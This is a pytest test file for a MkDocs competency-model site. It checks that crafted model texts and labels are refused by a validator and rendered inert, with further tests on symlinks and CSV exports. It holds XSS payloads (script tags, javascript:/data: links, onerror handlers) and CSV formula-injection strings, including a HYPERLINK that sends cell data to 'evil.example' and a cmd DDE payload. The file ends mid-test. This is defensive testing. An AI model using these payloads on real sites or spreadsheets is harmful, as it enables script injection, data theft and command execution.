"""Bad input, as an attacker or a careless editor writes it: the check refuses it, the renderer defuses it.

Two layers, each tested on its own. The check (``hooks.source.load``, ``hooks.source.labels``) refuses with file, line,
column, field and what to write instead. The renderer (``hooks.site.safehtml`` through ``hooks.site.render``) is
tested with the same texts passed straight to it, past the check: what comes out of MkDocs' Markdown
(with the site's own extensions) must be inert.
"""

from __future__ import annotations

import dataclasses
import functools
import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import markdown
import pytest
from bs4 import BeautifulSoup, Tag

from hooks.model import Competency, Translated
from hooks.site.render import SELF_ASSESSMENT, render_page
from hooks.site.safehtml import model_text_html, title_text
from hooks.site.state import SiteState, load_site
from hooks.source.labels import Labels
from hooks.source.siteconfig import i18n_languages, read_mkdocs_yml

PROJECT = Path(__file__).resolve().parents[1]
FIXTURE = Path(__file__).parent / "fixtures" / "five-groups"

#: Crafted model texts: each must come out of the renderer inert.
PAYLOADS = {
    "attr_list onclick on a link": '[x](https://ok.example){: onclick="alert(1)" }',
    "attr_list javascript href on a link": '[x](https://ok.example){: href="javascript:alert(1)" }',
    "attr_list onclick on a paragraph": 'Text\n{: onclick="alert(1)" }',
    "attr_list class and id": 'Text {: .md-button #top style="color:red" }',
    "image": "![t](https://tracker.example/p.gif)",
    "reference image": "![t][pixel]\n\n[pixel]: https://tracker.example/p.gif",
    "img tag": '<img src="https://tracker.example/p.gif" onerror="alert(1)">',
    "heading": "# A second title\n\nText",
    "setext heading": "A second title\n==============\n\nText",
    "script": "<script>alert(1)</script>Text",
    "javascript link": "[x](javascript:alert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "javascript reference link": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "raw javascript anchor": '<a href="javascript:alert(1)" onclick="alert(2)">x</a>',
    "raw iframe and style": '<iframe src="https://tracker.example/"></iframe><style>body{display:none}</style>',
    "svg onload": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "encoded title breakout": "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "markdown in html": '<div markdown="1" onclick="alert(1)">*x*</div>',
    "admonition": '!!! note "x"\n\n    <script>alert(1)</script>',
    "table": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
}

SAFE_SCHEMES = ("https:", "http:", "mailto:")
UNSAFE_SCHEME = re.compile(r"^\s*(?:javascript|data|vbscript)\s*:", re.IGNORECASE)


@functools.cache
def _site_markdown(config: Path) -> markdown.Markdown:
    names: list[str] = []
    configs: dict[str, Any] = {}
    for entry in read_mkdocs_yml(config)["markdown_extensions"]:
        if isinstance(entry, dict):
            (name, options), = entry.items()
            configs[name] = options or {}
        else:
            name = entry
        names.append(name)
    return markdown.Markdown(extensions=names, extension_configs=configs)


def site_markdown(config: Path = PROJECT / "mkdocs.yml") -> markdown.Markdown:
    """A Markdown converter with the site's own extensions, as MkDocs builds it from mkdocs.yml."""
    return _site_markdown(config).reset()


def elements(html: str) -> Iterable[Tag]:
    return BeautifulSoup(html, "html.parser").find_all(True)


def assert_inert(html: str, allowed_tags: set[str], allowed_attributes: set[str]) -> None:
    """No element or attribute beyond the allow-list, no link but https/http/mailto, nothing run or loaded."""
    for element in elements(html):
        assert element.name in allowed_tags, (element.name, html)
        for attribute, value in element.attrs.items():
            assert attribute in allowed_attributes, (element.name, attribute, html)
            values = value if isinstance(value, list) else [value]
            for text in values:
                assert not UNSAFE_SCHEME.match(text), (attribute, text, html)
        href = element.get("href")
        if isinstance(href, str) and ":" in href.split("/")[0]:
            assert href.startswith(SAFE_SCHEMES), html


@pytest.mark.parametrize("block", [False, True], ids=["inline", "block"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_crafted_model_text_comes_out_of_the_renderer_inert(payload: str, block: bool) -> None:
    fragment = model_text_html(PAYLOADS[payload], block=block)
    # As sanitized, and after MkDocs' Markdown pass, with the template's own Markdown around it.
    assert_inert(fragment, {"p", "em", "strong", "a", "ul", "ol", "li"} if block else {"em", "strong", "a"}, {"href"})
    contexts = [f"{fragment}\n", f"- {fragment}\n", f"# Title\n\n{fragment}\n{{: .cm-definition }}\n",
                f"| a |\n|---|\n| {fragment} |\n", f"Term\n:   {fragment}\n"] if not block else [f"{fragment}\n"]
    for context in contexts:
        converter = site_markdown()
        html = converter.convert(context)
        assert_inert(html, {"p", "em", "strong", "a", "ul", "ol", "li", "h1", "table", "thead", "tbody", "tr", "th",
                            "td", "dl", "dt", "dd"}, {"href", "id", "class", "title"})
        headings = [element for element in elements(html) if re.fullmatch(r"h[1-6]", element.name)]
        assert len(headings) == (1 if context.startswith("# Title") else 0), html
        for element in elements(html):
            if element.name in {"p", "h1"}:
                assert element.get("class") in (None, ["cm-definition"]) and element.get("id") in (None, "title"), html


@pytest.mark.parametrize("label", ["R&D", "a < b > c", 'Zeg "ja"', "1. eerst", "- min", "50 % & meer: *niet* vet",
                                   "&amp; blijft &amp;", "{number} blijft staan"])
def test_a_label_shows_exactly_as_written(label: str) -> None:
    from hooks.site.safehtml import plain_text_html

    html = site_markdown().convert(f"- {plain_text_html(label)}\n\n{plain_text_html(label)}\n")
    soup = BeautifulSoup(html, "html.parser")
    assert [element.get_text() for element in soup.find_all(["li", "p"])] == [label, label], html
    assert {element.name for element in soup.find_all(True)} == {"ul", "li", "p"}, html


def test_allowed_markdown_still_works() -> None:
    html = model_text_html("Een *nadruk*, **sterk**, [een link](https://example.org/a_b?x=1&y=2) en "
                           "[mail](mailto:hr@example.org).\n\n- een\n- twee", block=True)
    assert "<em>nadruk</em>" in html and "<strong>sterk</strong>" in html
    assert '<a href="https://example.org/a_b?x=1&amp;y=2">een link</a>' in html
    assert '<a href="mailto:hr@example.org">mail</a>' in html
    assert "<ul> <li>een</li> <li>twee</li> </ul>" in html


@pytest.mark.parametrize(("title", "expected"), [
    ("&lt;/title&gt;&lt;script&gt;x&lt;/script&gt; Samen", "‹/title›‹script›x‹/script› Samen"),
    ("Samen &amp; sterk", "Samen &amp; sterk"),
    ("<em>Samen</em> werken", "Samen werken"),
])
def test_a_page_title_stays_inert_however_the_theme_prints_it(title: str, expected: str) -> None:
    assert title_text(title) == expected


# ---------------------------------------------------------------------------------------------------
# The renderer, past the check: whole generated pages


@pytest.fixture(scope="module")
def fixture_site() -> SiteState:
    languages = i18n_languages(read_mkdocs_yml(FIXTURE / "mkdocs.yml"))
    return load_site(FIXTURE, FIXTURE / "docs", languages)


def crafted_competency(competency: Competency, text: str, languages: Iterable[str]) -> Competency:
    """The competency with every one of its texts replaced by ``text``."""
    def one(_: Translated[str]) -> Translated[str]:
        return Translated(dict.fromkeys(languages, text))

    def many(_: Translated[tuple[str, ...]]) -> Translated[tuple[str, ...]]:
        return Translated(dict.fromkeys(languages, (text, text)))

    development = competency.development
    return dataclasses.replace(
        competency, name=one(competency.name), definition=one(competency.definition),
        description=one(competency.description), digital=one(competency.digital), leadership=one(competency.leadership),
        key_aspects=many(competency.key_aspects), this_means=many(competency.this_means),
        this_does_not_mean=many(competency.this_does_not_mean),
        levels=tuple(dataclasses.replace(entry, indicators=many(entry.indicators)) for entry in competency.levels),
        development=dataclasses.replace(development, on_the_job=many(development.on_the_job),
                                        with_others=many(development.with_others),
                                        learning=many(development.learning),
                                        reflection_questions=many(development.reflection_questions)),
        hr_use=dataclasses.replace(competency.hr_use, selection_questions=many(competency.hr_use.selection_questions),
                                   evaluation_objectives=many(competency.hr_use.evaluation_objectives)),
    )


def assert_page_inert(html: str) -> None:
    """A whole generated page: whatever the template adds, nothing runs, loads or adds a second title."""
    for element in elements(html):
        assert element.name not in {"script", "img", "iframe", "style", "svg", "object", "embed", "form"}, html
        for attribute, value in element.attrs.items():
            assert not attribute.lower().startswith("on"), (element.name, attribute)
            assert attribute not in {"style", "src", "srcset"}, (element.name, attribute)
            for text in value if isinstance(value, list) else [value]:
                assert not UNSAFE_SCHEME.match(text), (attribute, text)
    assert len([element for element in elements(html) if element.name == "h1"]) == 1, html


def crafted_pages(site: SiteState, text: str, language: str, templates: set[str]) -> Iterable[str]:
    """The HTML of the pages made with ``templates``, for a model whose first competency says ``text`` everywhere."""
    model = site.model
    languages = ["nl", "fr"] if language == "de" else ["nl", "fr", "de"]
    original = model.competencies[0]
    crafted = crafted_competency(original, text, languages)
    crafted_model = dataclasses.replace(
        model, competencies=tuple(crafted if competency is original else competency for competency in model.competencies))
    for page in site.pages.values():
        if page.competency is original:
            page = dataclasses.replace(page, competency=crafted)
        elif page.template not in templates or page.group not in (None, original.group):
            continue
        body = render_page(page, crafted_model, language, site.labels[language], site.environment,
                           {"edit_url": None, "downloads": []})
        yield site_markdown(FIXTURE / "mkdocs.yml").convert(body.split("\n---\n", 1)[-1]
                                                            if body.startswith("---") else body)


@pytest.mark.parametrize("language", ["nl", "de"])  # de: the texts fall back to Dutch, in lang wrappers
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_crafted_competency_renders_to_an_inert_page(fixture_site: SiteState, payload: str, language: str) -> None:
    for html in crafted_pages(fixture_site, PAYLOADS[payload], language, {"group.md.j2"}):
        assert_page_inert(html)


def test_every_crafted_text_at_once_renders_inert_in_the_dictionary_and_the_overview_table(
        fixture_site: SiteState) -> None:
    for html in crafted_pages(fixture_site, "\n\n".join(PAYLOADS.values()), "nl",
                              {"dictionary.md.j2", "at-a-glance.md.j2", "model.md.j2"}):
        assert_page_inert(html)


LABEL_PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "img": '<img src="https://tracker.example/p.gif">',
    "attr_list": 'Text {: onclick="alert(1)" }',
    "markdown image": "![t](https://tracker.example/p.gif)",
    "heading": "# Title",
}


@pytest.mark.parametrize("payload", LABEL_PAYLOADS)
def test_a_crafted_label_renders_inert_on_every_generated_page(fixture_site: SiteState, payload: str) -> None:
    labels = fixture_site.labels["fr"]
    crafted = Labels("fr", labels.source, {key: _with_placeholders(value, LABEL_PAYLOADS[payload])
                                           for key, value in labels.values.items()})
    state = dataclasses.replace(fixture_site, labels=dict(fixture_site.labels, fr=crafted))
    one_per_template = {page.template: path for path, page in reversed(state.pages.items())}
    for path in one_per_template.values():
        body = state.render("fr", path, edit_url="https://example.org/edit/main/model/x.yaml")
        html = site_markdown(FIXTURE / "mkdocs.yml").convert(body.split("\n---\n", 1)[-1]
                                                             if body.startswith("---") else body)
        for element in elements(html):
            if element.name == "script" and path == SELF_ASSESSMENT:
                assert_self_assessment_script(element)
                continue
            assert element.name not in {"script", "img"}, (path, html)
            assert not any(attribute.startswith("on") for attribute in element.attrs), (path, element)
        assert len([element for element in elements(html) if element.name == "h1"]) == 1, (path, html)


def assert_self_assessment_script(element: Tag) -> None:
    """The self-assessment's two scripts, its own, whatever a label says: its data, as JSON, and its file."""
    if element.get("type") == "application/json":
        assert element.attrs == {"type": "application/json", "id": "cm-self-data"}, element
        json.loads(element.get_text())  # a label never ends it early: the whole block is still JSON
        assert "<" not in element.get_text(), element
    else:
        assert element.attrs == {"src": "../../assets/javascripts/self-assessment.js", "defer": ""}, element
        assert not element.get_text(), element


def _with_placeholders(label: str, payload: str) -> str:
    """The crafted text, keeping the label's placeholders so that pages can still fill them."""
    placeholders = re.findall(r"\{\w+\}", label)
    if placeholders:
        payload = payload.replace("{", "{{").replace("}", "}}")
    return f"{payload} {' '.join(placeholders)}".strip()


def test_labels_and_titles_are_escaped_in_the_html_templates(fixture_site: SiteState) -> None:
    from hooks.site.state import language_choice_page
    from hooks.site.untranslated import page_in_reader_language

    payload = "<script>alert(1)</script>"
    labels = {code: Labels(code, value.source, dict.fromkeys(value.values, payload))
              for code, value in fixture_site.labels.items()}
    from hooks.site.redirects import Redirect, redirect_page

    competency = fixture_site.model.competencies[0]
    redirect = Redirect("groep-1/oud/", "groep-1/nieuw/", Translated({"nl": payload}), "oud", competency)
    for html in (redirect_page(redirect, "fr", "nl", "https://example.org/"),
                 language_choice_page(fixture_site.model, fixture_site.languages, labels),
                 language_choice_page(fixture_site.model, fixture_site.languages, labels, not_found=True, base="/"),
                 page_in_reader_language("<p>x</p>", "nl", "fr", labels["fr"], fixture_site.environment)):
        assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)" in html


# ---------------------------------------------------------------------------------------------------
# The check: what it refuses, where, and what to write instead


COMPETENCY = "model/competencies/samenwerken.yaml"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A copy of the model and the docs folder, to break."""
    target = tmp_path / "project"
    for folder in ("model", "docs"):
        shutil.copytree(PROJECT / folder, target / folder)
    shutil.copy(PROJECT / "mkdocs.yml", target / "mkdocs.yml")
    return target


def problems_of(project: Path) -> list[str]:
    """Every problem that the check finds in the project, as printed."""
    from hooks.problems import ModelError

    languages = i18n_languages(read_mkdocs_yml(project / "mkdocs.yml"))
    with pytest.raises(ModelError) as raised:
        load_site(project, project / "docs", languages)
    return [str(problem) for problem in raised.value.problems]


def set_name(project: Path, text: str) -> None:
    """Write ``text`` as the Dutch name of the competency (line 6, the value at column 7)."""
    path = project / COMPETENCY
    content = path.read_text(encoding="utf-8")
    quoted = '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'
    path.write_text(re.sub(r"^(name:\n  nl: ).*$", lambda match: match.group(1) + quoted, content, count=1,
                           flags=re.MULTILINE), encoding="utf-8")


REFUSED_TEXTS = {
    "attr_list onclick on a link": (PAYLOADS["attr_list onclick on a link"],
                                    "attribute lists are not allowed (found '{: onclick=\"alert(1)\" }'): the site "
                                    "sets every attribute and style itself; remove the braces and what is between them"),
    "attr_list javascript href": (PAYLOADS["attr_list javascript href on a link"],
                                  "the link 'javascript:' is not allowed: links must start with https://, http:// or "
                                  "mailto:"),
    "attr_list on a paragraph": (PAYLOADS["attr_list onclick on a paragraph"], "attribute lists are not allowed"),
    "attr_list id": ("Tekst { #top }", "attribute lists are not allowed (found '{ #top }')"),
    "image": (PAYLOADS["image"], "images are not allowed in model texts (the site loads nothing from other hosts, "
                                 "and a picture needs a text alternative): describe it in words, or link to it with "
                                 "[text](https://...)"),
    "reference image": (PAYLOADS["reference image"], "images are not allowed in model texts"),
    "img tag": (PAYLOADS["img tag"], "raw HTML is not allowed (found '<img src="),
    "heading": (PAYLOADS["heading"], "headings are not allowed in model texts (the page's headings come from the "
                                     "site): write the words as a sentence"),
    "setext heading": (PAYLOADS["setext heading"], "headings are not allowed in model texts"),
    "setext heading with dashes": ("Titel\n---\n\nTekst", "headings are not allowed in model texts"),
    "script": (PAYLOADS["script"], "raw HTML is not allowed (found '<script>')"),
    "javascript link": (PAYLOADS["javascript link"], "the link 'javascript:alert(1' is not allowed"),
    "data link": (PAYLOADS["data link"], "the link 'data:text/html;base64,"),
    "vbscript link": (PAYLOADS["vbscript link"], "the link 'vbscript:msgbox(1' is not allowed"),
    "javascript reference link": (PAYLOADS["javascript reference link"], "the link 'javascript:alert(1)' is not allowed"),
    "data url in an attribute list": ('Tekst {: data-x="data:text/html,x" }', "the link 'data:' is not allowed"),
}


@pytest.mark.parametrize("case", REFUSED_TEXTS)
def test_the_check_refuses_a_dangerous_model_text_where_it_stands(project: Path, case: str) -> None:
    text, message = REFUSED_TEXTS[case]
    set_name(project, text)
    found = problems_of(project)
    assert any(problem.startswith(f"{COMPETENCY}:6:7: name.nl: {message}") for problem in found), found


@pytest.mark.parametrize("text", ["Tekst met {accolades}", "Een lijn\n\n- met\n- een lijst", "Min - teken",
                                  "C# en F#", "Prijs: 5 = 5", "[link](https://example.org/?a=b)"])
def test_the_check_lets_ordinary_texts_through(project: Path, text: str) -> None:
    from hooks.source.texts import text_hygiene

    assert text_hygiene(text) == []


LABEL_MARKUP = {
    "script": ("<script>alert(1)</script>", "found '<script>'"),
    "img": ('<img src="https://tracker.example/p.gif">', "found '<img src="),
    "bold": ("**Vet**", "remove Markdown emphasis or code (found '**V')"),
    "link": ("[klik](https://example.org)", "remove a link (found '[klik](')"),
    "image": ("![t](https://tracker.example/p.gif)", "remove an image (found '![')"),
    "attr_list": ('Tekst {: onclick="alert(1)" }', "remove an attribute list (found '{: onclick=\"alert(1)\" }')"),
    "reference": ("&lt;script&gt;", "remove an HTML character reference (found '&lt;')"),
    "heading": ("# Titel", "remove a heading (found '# ')"),
}


@pytest.mark.parametrize("case", LABEL_MARKUP)
def test_the_check_refuses_markup_in_a_label(project: Path, case: str) -> None:
    text, found_text = LABEL_MARKUP[case]
    path = project / "docs" / "fr" / "labels.yml"
    content = path.read_text(encoding="utf-8")
    line = content.splitlines().index("what_it_means: Que recouvre cette compétence ?") + 1
    quoted = '"' + text.replace('"', '\\"') + '"'
    path.write_text(content.replace("what_it_means: Que recouvre cette compétence ?", f"what_it_means: {quoted}"),
                    encoding="utf-8")
    found = problems_of(project)
    expected = (f"docs/fr/labels.yml:{line}:16: what_it_means: labels are plain text, shown as written: "
                f"remove")
    assert any(problem.startswith(expected) and found_text in problem
               and problem.endswith("the site adds links, emphasis and headings itself") for problem in found), found


@pytest.mark.parametrize(("name", "replaces"), [
    ("faq", "the handwritten pages docs/nl/faq.md and docs/fr/faq.md"),
    ("about", "the handwritten pages docs/nl/about.md and docs/fr/about.md"),
    ("index", "the handwritten pages docs/nl/index.md and docs/fr/index.md"),
    ("levels", "the generated page levels/"),
    ("at-a-glance", "the generated page at-a-glance/"),
    ("downloads", "the generated page downloads/"),
    ("model", "the generated page model/"),
    ("assets", "the folder docs/assets/"),
    ("search", "the search index (search/)"),
    ("pagefind", "the search index (pagefind/)"),
    ("404", "the page shown for an address that does not exist (404.html)"),
    ("sitemap", "the list of pages for search engines (sitemap.xml)"),
])
def test_the_check_refuses_a_group_id_that_takes_another_pages_address(project: Path, name: str,
                                                                        replaces: str) -> None:
    path = project / "model" / "groups.yaml"
    content = path.read_text(encoding="utf-8")
    line = content.splitlines().index("  - id: uitwisselen-en-samenwerken") + 1
    path.write_text(content.replace("  - id: uitwisselen-en-samenwerken", f"  - id: '{name}'"), encoding="utf-8")
    found = problems_of(project)
    assert (f"model/groups.yaml:{line}:9: groups[0].id: {name!r} is the address of {replaces}: this group's page "
            f"(/<language>/{name}/) would replace it in every language; choose another id") in found, found


def test_the_reserved_addresses_include_every_generated_top_level_page(fixture_site: SiteState) -> None:
    from hooks.site.state import reserved_addresses

    reserved = reserved_addresses(FIXTURE / "docs", fixture_site.languages)
    for path, page in fixture_site.pages.items():
        if page.group is None:
            assert path.split("/")[0].removesuffix(".md") in reserved, path


def test_the_check_refuses_a_former_group_id_and_a_competency_id_that_take_an_address(project: Path) -> None:
    groups = project / "model" / "groups.yaml"
    content = groups.read_text(encoding="utf-8")
    groups.write_text(content.replace("    order: 1\n", "    order: 1\n    former_ids: [faq]\n", 1), encoding="utf-8")
    competency = project / COMPETENCY
    competency.write_text(competency.read_text(encoding="utf-8").replace("id: samenwerken", "id: index"),
                          encoding="utf-8")
    competency.rename(competency.with_name("index.yaml"))
    found = problems_of(project)
    assert any(problem.startswith("model/groups.yaml:8:18: groups[0].former_ids[0]: 'faq' is the address of the "
                                  "handwritten pages docs/nl/faq.md and docs/fr/faq.md: this group's redirect")
               for problem in found), found
    assert ("model/competencies/index.yaml:2:5: id: 'index' is the address of the group's own page: this "
            "competency's page would replace it in every language; choose another id (and file name)") in found, found


SECRET = "root:x:0:0:do-not-print-me"
SYMLINK_MESSAGE = ("this is a symbolic link, or lies in a linked folder, that leads out of the repository: the site "
                   "is built only from files kept in the repository; replace the link with the file itself")


@pytest.mark.parametrize("where", [COMPETENCY, "model/groups.yaml", "model/schema/common.schema.json"])
def test_the_check_refuses_a_symbolic_link_without_reading_or_naming_its_target(
        project: Path, tmp_path: Path, where: str) -> None:
    outside = tmp_path / "outside" / "secret.yaml"
    outside.parent.mkdir()
    outside.write_text(f"{SECRET}\n: [\n", encoding="utf-8")
    (project / where).unlink()
    (project / where).symlink_to(outside)
    found = problems_of(project)
    assert found == [f"{where}: " + SYMLINK_MESSAGE]
    assert SECRET not in "\n".join(found) and str(tmp_path) not in "\n".join(found)


def test_the_check_refuses_a_linked_folder_and_a_linked_labels_file(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    shutil.copytree(project / "model" / "competencies", outside)
    shutil.rmtree(project / "model" / "competencies")
    (project / "model" / "competencies").symlink_to(outside, target_is_directory=True)
    found = problems_of(project)
    assert found == ["model/competencies: " + SYMLINK_MESSAGE]
    (project / "model" / "competencies").unlink()
    shutil.copytree(outside, project / "model" / "competencies")
    labels = project / "docs" / "fr" / "labels.yml"
    (outside / "labels.yml").write_text(labels.read_text(encoding="utf-8"), encoding="utf-8")
    labels.unlink()
    labels.symlink_to(outside / "labels.yml")
    assert problems_of(project) == ["docs/fr/labels.yml: " + SYMLINK_MESSAGE]


def test_hooks_check_prints_the_refusal_without_the_files_content(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "secret.yaml"
    outside.write_text(f"{SECRET}\n", encoding="utf-8")
    (project / COMPETENCY).unlink()
    (project / COMPETENCY).symlink_to(outside)
    result = subprocess.run([sys.executable, "-m", "hooks.check", "--config", str(project / "mkdocs.yml")],
                            capture_output=True, text=True, cwd=PROJECT, check=False)
    assert result.returncode == 1
    assert result.stdout.startswith(f"{COMPETENCY}: this is a symbolic link")
    assert SECRET not in result.stdout + result.stderr and str(tmp_path) not in result.stdout + result.stderr


# ---------------------------------------------------------------------------------------------------
# CSV downloads: no formula runs when HR staff open them in a spreadsheet


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"klik")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "at", "plus", "minus", "tab", "carriage return"])
def test_a_csv_cell_that_starts_like_a_formula_is_read_back_as_text(fixture_site: SiteState, formula: str) -> None:
    import csv
    import io

    from conftest import competencies_csv

    crafted = crafted_competency(fixture_site.model.competencies[0], formula, ["nl", "fr", "de"])
    model = dataclasses.replace(fixture_site.model, competencies=(crafted,))
    content = competencies_csv(model, "nl", fixture_site.labels["nl"])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    name, definition, indicators = rows[1][2], rows[1][3], rows[1][6]
    assert name == definition == f"'{formula}"
    assert indicators == f"'{formula}\n{formula}"  # the cell starts with the first indicator
    assert rows[1][4] == "1" and not any(row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)


@pytest.mark.parametrize(("language", "sentence"), [
    ("nl", "begint zo'n cel daarom met een apostrof (')"),
    ("fr", "une telle cellule commence donc par une apostrophe (')"),
])
def test_the_downloads_page_says_how_csv_cells_are_neutralised(language: str, sentence: str) -> None:
    site = load_site(PROJECT, PROJECT / "docs", i18n_languages(read_mkdocs_yml(PROJECT / "mkdocs.yml")))
    page = site.render(language, "downloads.md")
    assert sentence in " ".join(page.split())


# ---------------------------------------------------------------------------------------------------
# What the build checks before MkDocs cleans the site folder, and hooks.check with it


def test_languages_are_checked_before_the_build() -> None:
    from hooks.source.siteconfig import SiteLanguage, language_problems

    found = [str(problem) for problem in language_problems(
        [SiteLanguage("nl", "Nederlands", True), SiteLanguage("fr", "Français", True),
         SiteLanguage("fr", "Français", False), SiteLanguage("nl_BE", "Vlaams", False)])]
    assert found == [
        "mkdocs.yml: plugins.i18n.languages: exactly one language must have default: true (the source language of "
        "the pages), found 2: nl, fr",
        "mkdocs.yml: plugins.i18n.languages[fr]: this language is listed twice: keep one entry",
        "mkdocs.yml: plugins.i18n.languages[nl_BE].locale: 'nl_BE' is not a language code such as nl, fr or de; it "
        "names the language folder in docs/ and the texts in the model files",
    ]
    assert [str(problem) for problem in language_problems([])] == [
        "mkdocs.yml: plugins.i18n.languages: no language is built: list the site's languages, each with build: true"]


def test_placeholders_of_every_page_in_every_language_are_checked_with_front_matter_lines(tmp_path: Path) -> None:
    from hooks.site.state import handwritten_page_problems
    from hooks.source.siteconfig import SiteLanguage

    docs = tmp_path / "docs"
    (docs / "nl").mkdir(parents=True)
    (docs / "fr").mkdir()
    (docs / "nl" / "contact.md").write_text("# Contact\n\nMail {{ contact.email }} of {{ contact.organisation }}.\n",
                                            encoding="utf-8")
    (docs / "fr" / "about.md").write_text('---\ntranslated_from: "12345678"\n---\n\n# À propos\n\n{{ nope }}\n',
                                          encoding="utf-8")
    extra = {"contact": {"email": "hr@example.org", "organisation": {"nl": "FOD BOSA"}}}
    languages = [SiteLanguage("nl", "Nederlands", True), SiteLanguage("fr", "Français", False)]
    found = [str(problem) for problem in handwritten_page_problems(docs, languages, extra, tmp_path)]
    assert found == [
        "docs/fr/about.md:7:1: nope: no such value under 'extra' in mkdocs.yml; wrap the line in {% if nope %} … {% endif %} if a publisher may leave it out",
        # docs/nl/contact.md stands in for the missing French page: the organisation, given in Dutch only,
        # is shown in Dutch there, marked with its lang (tests/test_languages.py), which is no problem.
    ]


def test_a_page_filled_during_the_build_counts_its_front_matter_lines_too() -> None:
    from hooks.problems import ModelError
    from hooks.site.state import fill_page_placeholders

    source = '---\ntranslated_from: "12345678"\n---\n\n# Titel\n\n{{ nope }}\n'
    with pytest.raises(ModelError) as raised:
        fill_page_placeholders("# Titel\n\n{{ nope }}\n", source, {}, "nl", "docs/nl/x.md")
    assert str(raised.value.problems[0]) == "docs/nl/x.md:7:1: nope: no such value under 'extra' in mkdocs.yml; wrap the line in {% if nope %} … {% endif %} if a publisher may leave it out"
    assert fill_page_placeholders("# {{ a }}\n", "---\nx: 1\n---\n# {{ a }}\n", {"a": "b"}, "nl", "x") == "# b\n"


# ---------------------------------------------------------------------------------------------------
# A real build of crafted texts that got past the check


BYPASS_HOOK = '''"""Test only: switch the check off, as if it had missed everything, to test the renderer alone."""
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import hooks.source.labels  # noqa: E402
import hooks.site.state  # noqa: E402

hooks.site.state.validate_sources = lambda *args, **kwargs: []
hooks.source.labels.label_markup = lambda text: None
'''


def test_a_real_build_of_crafted_texts_past_the_check_publishes_nothing_live(tmp_path: Path) -> None:
    import yaml

    from conftest import build_site
    from test_build_errors import copy_site_project

    project = copy_site_project(tmp_path / "project")
    (project / "bypass_check.py").write_text(BYPASS_HOOK, encoding="utf-8")
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "hooks:\n  - hooks/mkdocs_hooks.py", "hooks:\n  - bypass_check.py\n  - hooks/mkdocs_hooks.py"), encoding="utf-8")
    competency = project / COMPETENCY
    data = yaml.safe_load(competency.read_text(encoding="utf-8"))
    everything = "\n\n".join(PAYLOADS.values())
    data["name"]["nl"] = PAYLOADS["encoded title breakout"] + " " + PAYLOADS["img tag"] + " Samen"
    for field in ("definition", "description", "digital", "leadership"):
        data[field]["nl"] = everything
    data["key_aspects"]["nl"] = list(PAYLOADS.values())
    competency.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    labels = project / "docs" / "nl" / "labels.yml"
    labels.write_text(re.sub(r"^key_aspects: .*$",
                             "key_aspects: '<script>alert(1)</script><img src=\"https://tracker.example/p.gif\">'",
                             labels.read_text(encoding="utf-8"), count=1, flags=re.MULTILINE), encoding="utf-8")

    site = tmp_path / "site"
    result = build_site(config, site)
    assert result.returncode == 0, result.stdout + result.stderr

    group = data["group"]
    pages = [site / "nl" / group / "samenwerken" / "index.html", site / "nl" / group / "index.html",
             site / "nl" / "dictionary" / "index.html", site / "nl" / "at-a-glance" / "index.html",
             site / "nl" / "model" / "index.html"]
    for path in pages:
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        for element in soup.find_all(True):
            assert not any(attribute.lower().startswith("on") for attribute in element.attrs), (path, element)
            for attribute, value in element.attrs.items():
                for text in value if isinstance(value, list) else [value]:
                    # Titles show up as text in aria-label and title attributes: that is fine. Nothing loads or runs.
                    if attribute in {"href", "src", "srcset", "action", "formaction", "poster", "style"}:
                        assert "tracker.example" not in text and "alert(" not in text, (path, element)
                    assert not re.match(r"\s*(javascript|vbscript|data:text)", text, re.IGNORECASE), (path, element)
        assert not [script for script in soup.find_all("script") if "alert" in script.get_text()], path
        assert not soup.find_all(["img", "iframe", "style", "svg"], src=True), path
        assert len(soup.select("article h1")) == 1, path
        title = soup.find("title")
        assert title is not None and "<" not in title.decode_contents(), path
    competency_page = pages[0].read_text(encoding="utf-8")
    assert "<title>‹/title›‹script›alert(1)‹/script› Samen" in competency_page
    # The label, shown as the text it is.
    text = BeautifulSoup(competency_page, "html.parser").get_text()
    assert '<script>alert(1)</script><img src="https://tracker.example/p.gif">' in text


def test_a_language_folder_linked_out_of_the_repository_is_refused_where_it_stands(project: Path,
                                                                                  tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere" / "fr"
    shutil.copytree(project / "docs" / "fr", outside)
    shutil.rmtree(project / "docs" / "fr")
    (project / "docs" / "fr").symlink_to(outside, target_is_directory=True)
    found = problems_of(project)
    assert found == ["docs/fr/labels.yml: " + SYMLINK_MESSAGE]


def test_publishing_a_staged_site_swaps_whole_folders_and_puts_the_last_one_back_on_failure(tmp_path: Path) -> None:
    from hooks.site.state import publish_staged_site, staging_dir

    site = tmp_path / "site"
    (site / "nl").mkdir(parents=True)
    (site / "nl" / "old.html").write_text("old", encoding="utf-8")
    staging = staging_dir(site)
    assert staging == tmp_path / ".site.building"
    (staging / "nl").mkdir(parents=True)
    (staging / "nl" / "new.html").write_text("new", encoding="utf-8")
    publish_staged_site(staging, site)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["site"]
    assert [path.name for path in (site / "nl").iterdir()] == ["new.html"]
    with pytest.raises(OSError):
